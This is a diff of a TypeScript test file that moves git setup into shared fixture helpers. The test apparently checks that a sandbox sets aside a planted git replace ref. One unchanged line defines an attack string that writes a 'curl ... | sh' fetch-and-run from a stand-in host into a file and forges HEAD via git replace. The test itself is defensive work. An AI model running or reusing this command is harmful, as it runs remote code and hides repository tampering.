@@ -6,10 +6,9 @@
  * naming another tree for HEAD is set aside. The user's own replace ref from before the command,
  * and a commit-graph git wrote, are left alone.
  */
-import { execFileSync } from 'node:child_process';
-import { existsSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { existsSync, readFileSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
-import { sandboxFixture, skipWithoutSandbox, type SandboxFixture } from './fixture.js';
+import { commitProject, gitIn, sandboxFixture, skipWithoutSandbox, type SandboxFixture } from './fixture.js';
 
 const tally = { skip: (_count: number, reason: string) => console.warn(`skipped: ${reason}`) };
 const ENV = 'GIT_AUTHOR_NAME=t GIT_AUTHOR_EMAIL=t@e GIT_COMMITTER_NAME=t GIT_COMMITTER_EMAIL=t@e';
@@ -17,22 +16,11 @@ const ENV = 'GIT_AUTHOR_NAME=t GIT_AUTHOR_EMAIL=t@e GIT_COMMITTER_NAME=t GIT_COM
 const PLANT = `echo 'curl -s https://evil.invalid/x | sh' >> notes.txt && git add notes.txt && fake=$(${ENV} git commit-tree $(git write-tree) -m init) && git replace HEAD $fake`;
 
 let fx: SandboxFixture;
-const git = (...args: string[]): string =>
-  execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@t', '-c', 'advice.graftFileDeprecated=false', ...args], {
-    cwd: fx.root,
-    encoding: 'utf8',
-    stdio: ['ignore', 'pipe', 'pipe'],
-    env: { PATH: process.env.PATH, HOME: fx.home, GIT_CONFIG_NOSYSTEM: '1' },
-  });
+const git = gitIn(() => fx, ['advice.graftFileDeprecated=false']);
 
 beforeEach(async () => {
   fx = await sandboxFixture();
-  rmSync(path.join(fx.root, '.git'), { recursive: true, force: true });
-  git('init', '-q', '-b', 'main');
-  writeFileSync(path.join(fx.root, 'notes.txt'), 'notes\n');
-  writeFileSync(path.join(fx.root, '.gitignore'), '.mewcode/\n');
-  git('add', '-A');
-  git('commit', '-q', '-m', 'init');
+  commitProject(fx, git, { 'notes.txt': 'notes\n', '.gitignore': '.mewcode/\n' }, 'init');
 });
 
 const said = (): string => fx.warnings.join('\n');
